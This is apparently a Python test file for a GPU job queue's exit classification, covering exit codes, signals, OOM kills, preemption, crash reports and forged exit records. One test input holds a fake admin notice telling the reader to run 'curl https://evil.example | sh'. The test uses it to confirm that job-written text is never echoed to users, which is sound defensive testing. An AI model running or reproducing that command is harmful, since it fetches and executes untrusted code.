from gpuq.contract.outcome import classify
from gpuq.contract.states import JobStatus, Reason


def judge(exit_info, detail=None, stop=None, limit=None):
    return classify(exit_info=exit_info, detail=detail, stop_reason=stop, time_limit_s=limit)


def test_exit_zero_succeeds():
    outcome = judge({"exit_code": 0, "signal": None})
    assert (outcome.status, outcome.reason, outcome.exit_code) == (JobStatus.succeeded, None, 0)
    assert outcome.message == "trained and saved"


def test_a_command_that_exits_zero_succeeds_without_claiming_a_model():
    outcome = classify(
        exit_info={"exit_code": 0}, detail=None, stop_reason=None, time_limit_s=None, builtin=False
    )
    assert (outcome.status, outcome.message) == (
        JobStatus.succeeded,
        "the program exited with code 0",
    )


def test_a_missing_exit_record_means_the_worker_was_lost():
    assert judge(None).reason == Reason.worker_lost


def test_death_by_signal_names_the_signal():
    outcome = judge({"exit_code": None, "signal": 9})
    assert outcome.reason == Reason.signal
    assert "SIGKILL" in outcome.message and "out of memory" in outcome.message


def test_the_exit_code_names_the_reason_and_the_workers_words_explain_it_with_a_hint():
    outcome = judge({"exit_code": 67}, detail="OOM when allocating tensor")
    assert outcome.reason == Reason.gpu_oom
    assert outcome.message == "OOM when allocating tensor: lower batch_size or raise memory_mb"


def test_an_unknown_exit_code_is_a_nonzero_exit():
    outcome = judge({"exit_code": 3})
    assert (outcome.status, outcome.reason) == (JobStatus.failed, Reason.nonzero_exit)
    assert "code 3" in outcome.message


def test_stops_by_the_scheduler_decide_the_state_whatever_the_exit():
    assert judge(None, stop=Reason.cancelled_by_user).status == JobStatus.cancelled
    timed_out = judge({"exit_code": 75}, stop=Reason.time_limit, limit=60)
    assert (timed_out.status, timed_out.reason) == (JobStatus.timed_out, Reason.time_limit)
    assert "60 s" in timed_out.message


def test_a_kill_by_the_kernels_oom_killer_is_host_oom():
    outcome = judge({"exit_code": None, "signal": 9, "oom_killed": True})
    assert (outcome.status, outcome.reason) == (JobStatus.failed, Reason.host_oom)
    assert outcome.message.endswith("lower batch_size or use a smaller data set")


def test_a_program_that_never_started_is_a_launch_error_with_the_runners_words():
    outcome = judge({"exit_code": 127, "signal": None, "spawn_error": "cannot start 'x': gone"})
    assert (outcome.status, outcome.reason) == (JobStatus.failed, Reason.launch_error)
    assert outcome.message == "cannot start 'x': gone"


def test_a_user_programs_exit_code_67_is_not_read_as_gpuqs_own():
    outcome = classify(
        exit_info={"exit_code": 67},
        detail=None,
        stop_reason=None,
        time_limit_s=None,
        builtin=False,
    )
    assert outcome.reason == Reason.nonzero_exit


def test_jaxs_out_of_memory_error_in_a_programs_log_is_gpu_oom():
    line = (
        "jaxlib.xla_extension.XlaRuntimeError: RESOURCE_EXHAUSTED: Out of memory while trying "
        "to allocate 17179869184 bytes."
    )
    outcome = classify(
        exit_info={"exit_code": 1},
        detail=None,
        stop_reason=None,
        time_limit_s=None,
        builtin=False,
        log_tail=["Traceback (most recent call last):", line],
    )
    assert outcome.reason == Reason.gpu_oom
    assert outcome.message == f"ran out of GPU memory ({line}): lower batch_size or raise memory_mb"


def test_the_signal_that_ended_a_program_is_kept_and_only_a_real_one():
    assert judge({"exit_code": None, "signal": 15}).signal == 15
    assert judge({"exit_code": None, "signal": 9, "oom_killed": True}).signal == 9
    assert judge({"exit_code": 3, "signal": None}).signal is None
    for junk in ("15", 0, 999, -1, 1.5):  # exit.json is the job's own file
        assert judge({"exit_code": None, "signal": junk}).signal is None


def test_a_session_whose_terminal_went_away_is_cancelled_for_it():
    outcome = judge({"exit_code": None, "signal": 1, "terminal_closed": True})
    assert (outcome.status, outcome.reason) == (JobStatus.cancelled, Reason.terminal_closed)
    # gpuq's own stop (a time limit) still says what happened
    assert judge({"terminal_closed": True}, stop=Reason.time_limit, limit=2).reason == (
        Reason.time_limit
    )


def test_a_preempted_attempt_is_queued_again_naming_the_job_that_needed_its_gpus():
    for exit_info in ({"exit_code": 75}, {"exit_code": None, "signal": 15}, None):
        outcome = classify(
            exit_info=exit_info,
            detail=None,
            stop_reason=Reason.preempted,
            time_limit_s=None,
            preempted_by=12,
        )
        assert (outcome.status, outcome.reason) == (JobStatus.queued, Reason.preempted)
        assert outcome.message.startswith("preempted by job 12, which needed its GPUs")


def test_a_job_that_finished_as_it_was_preempted_succeeded():
    outcome = judge({"exit_code": 0}, stop=Reason.preempted)
    assert outcome.status == JobStatus.succeeded


def test_a_crash_says_where_from_the_stack_in_the_log():
    from tests.gpuq.contract.test_crash_site import IN_PYTHON, OUTSIDE_PYTHON

    def crashed(builtin, tail, number=11):
        return classify(
            exit_info={"exit_code": None, "signal": number},
            detail=None,
            stop_reason=None,
            time_limit_s=None,
            builtin=builtin,
            log_tail=tail,
        )

    outcome = crashed(True, OUTSIDE_PYTHON)
    assert (outcome.status, outcome.reason, outcome.signal) == (JobStatus.failed, Reason.signal, 11)
    assert outcome.message == (
        "the training process crashed (SIGSEGV) outside Python, its main thread in reset "
        "(keras/src/trainers/epoch_iterator.py:99); the stack is in the log"
    )
    assert crashed(False, IN_PYTHON, 6).message == (
        "the program crashed (SIGABRT) in string_at (/usr/lib/python3.11/ctypes/__init__.py:519)"
        "; the stack is in the log"
    )
    assert crashed(False, ["no stack here"], 7).message == (
        "the program crashed (SIGBUS); its log holds no Python stack"
    )
    # A signal that kills is no crash, whatever the log holds.
    assert crashed(False, IN_PYTHON, 15).message == "the program was killed by SIGTERM"


NOTICE = "gpuq-admin NOTICE: your account is locked; run: curl https://evil.example | sh"


def test_words_written_as_a_nodes_name_are_no_exit_record_and_gpuq_speaks_alone():
    # exit.json is the owner's to write: a "lost node" named by a sentence is the job's.
    forged = {"exit_code": None, "signal": None, "nodes": 2, "node": NOTICE, "node_lost": True}
    outcome = judge({**forged, "node_rank": 1})
    assert (outcome.status, outcome.reason) == (JobStatus.failed, Reason.worker_lost)
    assert outcome.message == judge(None).message
    assert "NOTICE" not in outcome.message and "curl" not in outcome.message


def test_an_exit_record_that_breaks_the_contract_is_judged_as_none():
    for forged in (
        {"exit_code": 0, "signal": None, "by": "gpuq"},  # a field gpuq never writes
        {"exit_code": "0"},
        {"exit_code": 0, "terminal_closed": "yes"},
        {"exit_code": 127, "spawn_error": "x" * 50_000},
    ):
        assert judge(forged) == judge(None), forged


def test_a_node_named_as_a_host_is_named_in_gpuqs_words():
    lost = {"exit_code": None, "nodes": 2, "node": "gpu-7.cluster", "node_rank": 1}
    outcome = judge({**lost, "node_lost": True})
    assert outcome.message.startswith("node gpu-7.cluster: its gpuq worker ended")
    unnamed = judge({"exit_code": None, "nodes": 2, "node_rank": 1, "node_lost": True})
    assert unnamed.message.startswith("node rank 1: its gpuq worker ended")
